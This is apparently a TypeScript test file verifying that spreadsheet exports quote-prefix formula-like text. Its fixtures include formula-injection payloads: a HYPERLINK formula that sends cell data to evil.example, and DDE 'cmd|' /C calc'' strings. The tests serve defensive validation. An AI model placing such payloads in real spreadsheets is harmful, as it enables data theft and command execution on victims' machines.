// Text that a spreadsheet would take for a formula is written with Excel's quote prefix in every
// export; numbers and dates stay numbers and dates.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import Fastify from 'fastify';
import { describe, expect, it } from 'vitest';
import { customerLedgerXlsx } from '../src/modules/finance/customer-ledger-files';
import { renderXlsx, sendXlsx, type SheetColumn } from '../src/platform/export/xlsx';

/** The files of a zip (an .xlsx is one), by name. */
function unzip(file: Buffer): Map<string, string> {
  let end = file.length - 22;
  while (end >= 0 && file.readUInt32LE(end) !== 0x06054b50) end--;
  const count = file.readUInt16LE(end + 10);
  let at = file.readUInt32LE(end + 16);
  const files = new Map<string, string>();
  for (let i = 0; i < count; i++) {
    const method = file.readUInt16LE(at + 10);
    const size = file.readUInt32LE(at + 20);
    const nameLength = file.readUInt16LE(at + 28);
    const skip = nameLength + file.readUInt16LE(at + 30) + file.readUInt16LE(at + 32);
    const name = file.toString('utf8', at + 46, at + 46 + nameLength);
    const local = file.readUInt32LE(at + 42);
    const start = local + 30 + file.readUInt16LE(local + 26) + file.readUInt16LE(local + 28);
    const data = file.subarray(start, start + size);
    files.set(name, (method === 8 ? inflateRawSync(data) : data).toString('utf8'));
    at += 46 + skip;
  }
  return files;
}

/** Each cell of the first sheet (by reference, e.g. B2) and whether its style carries Excel's quote prefix. */
function quotePrefixes(file: Buffer): Map<string, boolean> {
  const files = unzip(file);
  const styles = files.get('xl/styles.xml')!;
  const cellXfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)![1]!;
  const xfs = [...cellXfs.matchAll(/<xf\b[^>]*>/g)].map((m) => /\bquotePrefix="1"/.test(m[0]));
  const sheet = files.get('xl/worksheets/sheet1.xml')!;
  const cells = new Map<string, boolean>();
  for (const m of sheet.matchAll(/<c\b([^>]*?)\/?>/g)) {
    const ref = /\br="([A-Z]+[0-9]+)"/.exec(m[1]!)![1]!;
    const style = Number(/\bs="([0-9]+)"/.exec(m[1]!)?.[1] ?? 0);
    cells.set(ref, xfs[style] ?? false);
  }
  return cells;
}

async function readBack(file: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file as unknown as ArrayBuffer);
  return workbook.worksheets[0]!;
}

type Line = { text: string; amount: number; day: Date };
const DAY = new Date('2026-03-14T00:00:00Z');
const dangerous = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click for your refund")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const harmless = ['Cordless Drill 18V', 'Pay 50% = OK', 'a-b', ''];
const lines: Line[] = [...dangerous, ...harmless].map((text, i) => ({ text, amount: i % 2 === 0 ? -12.5 : 1234.56, day: DAY }));
const columns: SheetColumn<Line>[] = [
  { header: 'Particulars', value: (l) => l.text },
  { header: 'Amount', value: (l) => l.amount, numFmt: '#,##0.00' },
  { header: 'Date', value: (l) => l.day, numFmt: 'yyyy-mm-dd' },
];

/** Checks the sheet written from `lines` under a header row. */
async function expectQuoted(file: Buffer, firstRow = 2) {
  const quoted = quotePrefixes(file);
  const sheet = await readBack(file);
  lines.forEach((line, i) => {
    const row = firstRow + i;
    const text = sheet.getCell(`A${row}`).value;
    // The text itself is kept (XML reads a lone carriage return as a line feed); only the cell's style says "this is text".
    expect(text ?? '', `A${row}`).toBe(line.text.replace(/\r/g, '\n'));
    expect(quoted.get(`A${row}`) ?? false, `A${row} ${JSON.stringify(line.text)}`).toBe(dangerous.includes(line.text));
    expect(sheet.getCell(`B${row}`).value).toBe(line.amount);
    expect(quoted.get(`B${row}`), `B${row}`).toBe(false);
    expect(sheet.getCell(`C${row}`).value).toEqual(DAY);
    expect(sheet.getCell(`B${row}`).numFmt).toBe('#,##0.00');
    expect(sheet.getCell(`C${row}`).numFmt).toBe('yyyy-mm-dd');
  });
}

describe('text that looks like a formula', () => {
  it('is quoted in a sheet built in memory (renderXlsx), and numbers and dates stay numbers and dates', async () => {
    await expectQuoted(await renderXlsx('Lines', columns, lines));
  });

  it('is quoted in a streamed sheet (sendXlsx)', async () => {
    const app = Fastify();
    app.get('/file', (_req, reply) =>
      sendXlsx(reply, {
        fileName: 'lines.xlsx',
        sheetName: 'Lines',
        columns,
        pages: (async function* () {
          yield lines.slice(0, 4);
          yield lines.slice(4);
        })(),
      }),
    );
    const answer = await app.inject({ method: 'GET', url: '/file' });
    await app.close();
    expect(answer.statusCode).toBe(200);
    await expectQuoted(answer.rawPayload);
  });

  it('is quoted in the customer ledger', async () => {
    const file = await customerLedgerXlsx(
      {
        customer: { id: 1, customerName: '=cmd' },
        period: { from: '2026-03-01', to: '2026-03-31' },
        opening: 0,
        lines: [
          {
            date: '2026-03-14',
            kind: 'SALE',
            documentNumber: '@SO-1',
            particulars: '=HYPERLINK("x")',
            debit: 1000,
            credit: 0,
            balance: 1000,
          },
        ],
        totalDebit: 1000,
        totalCredit: 0,
        closing: 1000,
      } as unknown as Parameters<typeof customerLedgerXlsx>[0],
      '+Shop',
    );
    const quoted = quotePrefixes(file);
    const sheet = await readBack(file);
    expect(sheet.getCell('A1').value).toBe('+Shop');
    expect(quoted.get('A1')).toBe(true);
    const entry = sheet.getRow(7);
    expect(entry.getCell(3).value).toBe('@SO-1');
    expect(entry.getCell(4).value).toBe('=HYPERLINK("x")');
    expect(quoted.get('C7')).toBe(true);
    expect(quoted.get('D7')).toBe(true);
    expect(quoted.get('B7')).toBe(false);
    expect(entry.getCell(5).value).toBe(10);
    expect(entry.getCell(1).value).toEqual(new Date('2026-03-14T00:00:00Z'));
  });

  it('cannot be forgotten: only the shared export code writes spreadsheets (and only the import reads them)', () => {
    const src = join(import.meta.dirname, '../src');
    const files = (dir: string): string[] =>
      readdirSync(dir).flatMap((name) => {
        const path = join(dir, name);
        return statSync(path).isDirectory() ? files(path) : path.endsWith('.ts') && !path.endsWith('.test.ts') ? [path] : [];
      });
    const writers = files(src)
      .filter((path) => /from 'exceljs'|require\('exceljs/.test(readFileSync(path, 'utf8')))
      .map((path) => relative(src, path));
    // read-sheet.ts reads an uploaded workbook (exceljs only as the fallback of its own reader); it writes none.
    expect(writers).toEqual(['modules/imports/read-sheet.ts', 'platform/export/xlsx.ts']);
  });
});
